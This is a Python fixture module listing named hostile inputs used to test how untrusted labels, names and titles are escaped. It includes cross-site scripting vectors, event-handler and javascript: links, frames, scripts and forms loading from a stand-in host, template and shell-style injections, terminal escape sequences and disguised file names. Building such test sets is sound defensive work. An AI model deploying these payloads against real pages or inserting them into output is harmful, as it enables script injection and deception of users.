r"""Fifty and more texts that a hostile or careless person puts where a label, a name, a title or an error is shown.

What would run, if it ran, sets the title of the page to "owned"; what would be fetched is asked of `evil.invalid`.
"""

JS = "document.title='owned'"
OUT = "https://evil.invalid"

PAYLOADS = {
    # scripts
    "a script": f"<script>{JS}</script>",
    "a script in capitals": f"<SCRIPT>{JS}</SCRIPT>",
    "a script from elsewhere": f"<script src={OUT}/a.js></script>",
    "a script that is not closed": f"<script>{JS}//",
    "a script within a script": f"<scr<script>ipt>{JS}</scr</script>ipt>",
    "a script after a closing style": f"</style><script>{JS}</script>",
    "a script after a closing title": f"</title><script>{JS}</script>",
    "a script after a closing text field": f"</textarea></select><script>{JS}</script>",
    "a script after a comment": f"--><script>{JS}</script><!--",
    "a script after CDATA": f"]]><script>{JS}</script>",
    "a script that ends an attribute": f"\"'><script>{JS}</script>",
    "a script that ends a script": f'</script><script>{JS}</script>{{"a": "',
    "a script in noscript": f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
    "a script with a NUL in its name": f"<scr\0ipt>{JS}</scr\0ipt>",
    # handlers
    "onerror": f'<img src=x onerror="{JS}">',
    "onerror with slashes": f"<img/src=x/onerror={JS}>",
    "onerror in upper case": f'<IMG SRC=x OnErRoR="{JS}">',
    "onerror behind a quote": f'" onerror="{JS}" x="',
    "onmouseover": f'<b onmouseover="{JS}" style="display:block;height:100vh">hover</b>',
    "onload of a body": f"<body onload={JS}>",
    "onfocus of a field": f"<input autofocus onfocus={JS}>",
    "ontoggle of details": f"<details open ontoggle={JS}>a</details>",
    "onstart of a marquee": f"<marquee onstart={JS}>a</marquee>",
    # drawings and mathematics
    "a drawing with onload": f'<svg onload="{JS}"></svg>',
    "a drawing with a script": f"<svg><script>{JS}</script></svg>",
    "a drawing that sets a link": f"<svg><a><animate attributeName=href values=javascript:{JS} /><text>a</text></a>",
    "mathematics around a style": f"<math><mtext><style><img src=x onerror={JS}></style></mtext></math>",
    "mathtext that is broken": r"$\frac{",
    "mathtext that is not closed": r"cost in $ of $\notacommand{",
    "TeX with a link": rf"$\href{{javascript:{JS}}}{{click}}$ \(x^2\) $$\sum$$",
    "TeX that never ends": r"$\def\a{\a\a}\a$",
    # links and frames
    "a javascript link": f'<a href="javascript:{JS}">click</a>',
    "a javascript link in Markdown": f"[click](javascript:{JS})",
    "a picture in Markdown": f"![a]({OUT}/a.png)",
    "a link with a tab in its scheme": f'<a href="java\tscript:{JS}">click</a>',
    "a link written in entities": "<a href=&#106;avascript:document.title='owned'>click</a>",
    "a page as a data address": f"<iframe src=\"data:text/html,<script>parent.{JS}</script>\"></iframe>",
    "a frame from elsewhere": f"<iframe src={OUT}></iframe><object data={OUT}></object><embed src={OUT}>",
    "a picture from elsewhere": f'<img src="{OUT}/a.png" srcset="{OUT}/b.png 2x">',
    "a reload": f'<meta http-equiv="refresh" content="0;url={OUT}">',
    "a base address": f'<base href="{OUT}/"><link rel=stylesheet href=a.css>',
    "a form": f'<form action="{OUT}"><button formaction="{OUT}">Sign in</button></form>',
    # looks
    "a style sheet": "<style>body{display:none}</style>",
    "a style sheet that asks elsewhere": f"<style>@import '{OUT}/a.css';*{{background:url({OUT}/b)}}</style>",
    "a cover over the page": '<div style="position:fixed;inset:0;background:red">a</div>',
    "markup that closes the page": "</td></tr></table></div></main></body></html>",
    "a heading that is none": "# Title\n\n| a | b |\n|---|---|",
    # templates and entities
    "a template's braces": "{{ 7*7 }}{% for x in [1] %}{{ config }}{% endfor %}",
    "a format's braces": "{0.__class__.__mro__} %s %(a)s ${HOME} `id`",
    "entities": "&lt;script&gt; &amp;amp; &#0; &nbsp",
    # terminals and scripts of the world
    "colours of a terminal": "\x1b[31mred\x1b[0m\x1b[2J\x1b[H",
    "the title of a terminal's window": "\x1b]0;owned\x07\x1b]8;;https://evil.invalid\x1b\\click\x1b]8;;\x1b\\",
    "a control sign of eight bits": "\x9b31mred\x90q\x9c",
    "a carriage return over the name": "harmless.png\rowned.exe   ",
    "backspaces over the name": "owned.exe\x08\x08\x08\x08\x08\x08\x08\x08\x08fine",
    "a NUL in the middle": "before\0after",
    "a name turned around": "photo\u202egpj.exe\u2066 a\u2069",
    "signs that end a line": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "half a character": "caf\udce9.jpg",
    "signs that stack up": "Z" + "\u0351\u0363\u036b" * 40,
    "a word of 5,000 letters": "x" * 5000,
    "no letter at all": "",
    "many lines": "line\n" * 60,
}  # fmt: skip

WRITTEN = {name: text for name, text in PAYLOADS.items() if text.isascii() or "\udce9" not in text}  # a notebook's text
